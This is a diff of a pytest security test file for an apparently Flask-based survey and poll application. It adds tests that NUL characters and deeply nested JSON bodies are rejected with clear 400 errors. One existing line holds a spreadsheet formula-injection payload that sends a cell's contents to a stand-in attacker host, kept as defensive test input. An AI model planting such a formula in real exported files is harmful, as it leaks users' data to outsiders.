@@ -5,10 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
 from urllib.parse import urljoin, urlsplit
 
 import pytest
-from helpers import cast, csrf_from
+from helpers import bearer, cast, csrf_from
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -102,3 +104,118 @@ def test_next_never_leads_off_site(client, org, target):
 def test_next_keeps_a_path_on_this_site(client, org):
     answer = sign_in(client, "secretary", next_="/staff/polls/?year=2026")
     assert answer.status_code == 303 and answer.headers["Location"] == "/staff/polls/?year=2026"
+
+
+# -- 3. NUL characters and deep JSON: 400, never 500 -----------------------------------------
+
+ROUTE_ARGUMENT = re.compile(r"<(?:(\w+)(?:\([^)]*\))?:)?(\w+)>")
+
+
+def routes(app):
+    """(rule, method) for every route of the app and every method it answers."""
+    for rule in app.url_map.iter_rules():
+        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
+            yield rule, method
+
+
+def fill(rule, text: str) -> str:
+    def value(match):
+        return "1" if match.group(1) == "int" else text
+
+    return ROUTE_ARGUMENT.sub(value, rule.rule)
+
+
+def assert_refused_for_nul(answer, where):
+    assert answer.status_code == 400, (where, answer.status_code)
+    if answer.is_json:
+        assert answer.get_json()["error"]["code"] == "nul_character", where
+    else:
+        assert 'data-reason="nul_character"' in answer.text, where
+
+
+def test_nul_in_any_route_path_is_a_clear_400(app, client):
+    tried = 0
+    for rule, method in routes(app):
+        if not any(m.group(1) != "int" for m in ROUTE_ARGUMENT.finditer(rule.rule)):
+            continue
+        for text in ("%00", "a%00b"):
+            path = fill(rule, text)
+            assert_refused_for_nul(client.open(path, method=method), (method, path))
+            tried += 1
+    assert tried > 10
+
+
+def test_nul_in_the_query_of_every_route_is_a_clear_400(app, client, org):
+    sign_in(client, "reviewer")
+    for rule, method in routes(app):
+        path = fill(rule, "x")
+        for query in ("q=%00", "lang=%00", "next=/%00", "a%00=1"):
+            answer = client.open(f"{path}?{query}", method=method)
+            assert_refused_for_nul(answer, (method, path, query))
+
+
+def test_nul_in_a_form_field_is_a_clear_400_even_without_csrf(app, client, org):
+    sign_in(client, "reviewer")
+    app.config["WTF_CSRF_ENABLED"] = False
+    answer = client.post("/login", data={"username": "secre\x00tary", "password": "x"})
+    assert_refused_for_nul(answer, "login")
+    for rule, method in routes(app):
+        if method in ("POST", "PUT", "PATCH", "DELETE"):
+            path = fill(rule, "x")
+            answer = client.open(path, method=method, data={"title": "a\x00b", "reason": "\x00"})
+            assert_refused_for_nul(answer, (method, path))
+
+
+def test_nul_in_a_login_name_is_refused_before_the_database(client, org, caplog):
+    answer = sign_in(client, "reviewer\x00")
+    assert_refused_for_nul(answer, "login")
+    assert not [r for r in caplog.records if r.levelname == "ERROR"]
+
+
+def test_nul_in_a_poll_reason_is_a_clear_400(app, client, make, org):
+    from poll_helpers import answer, poll_campaign
+
+    app.config["POLL_MIN_FILL_SECONDS"] = 0
+
+    campaign = poll_campaign(make, org["first"])
+    refused = answer(client, campaign.slug, "dissatisfied", reason="路灯\x00坏了")
+    assert_refused_for_nul(refused, "poll")
+    assert answer(client, campaign.slug, "dissatisfied", reason="路灯坏了").status_code == 303
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"organisation_id": 1, "year": 2026, "kind": "member_review", "title": "a\x00b"},
+        {"organisation_id": 1, "year": 2026, "kind": "member_review", "title\x00": "x"},
+        {"questions": [{"key": "x", "prompt": "\x00"}]},
+    ],
+)
+def test_nul_in_a_json_string_is_a_400_json_error(client, org, body):
+    answer = client.post("/api/v1/campaigns", json=body, headers=bearer(org["reviewer"]))
+    assert_refused_for_nul(answer, body)
+    assert answer.get_json()["error"]["field"]
+
+
+@pytest.mark.parametrize("depth", [1000, 30000])
+def test_deeply_nested_json_is_a_400(app, client, org, depth):
+    for path, method in (("/api/v1/campaigns", "POST"), ("/api/v1/organisations", "POST")):
+        for body in ("[" * depth, "[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
+            if len(body) > app.config["MAX_CONTENT_LENGTH"]:
+                continue  # 413, as any body too large
+            answer = client.open(
+                path,
+                method=method,
+                data=body,
+                content_type="application/json",
+                headers=bearer(org["reviewer"]),
+            )
+            assert answer.status_code == 400 and answer.is_json, (path, depth)
+
+
+def test_brackets_inside_json_strings_do_not_count_as_nesting():
+    from survey.security import nests_too_deep
+
+    assert not nests_too_deep(json.dumps({"title": "[" * 500, "n": ['\\"{' * 50]}))
+    assert nests_too_deep("[" * 33 + "]" * 33)
+    assert not nests_too_deep("[" * 32 + "]" * 32)
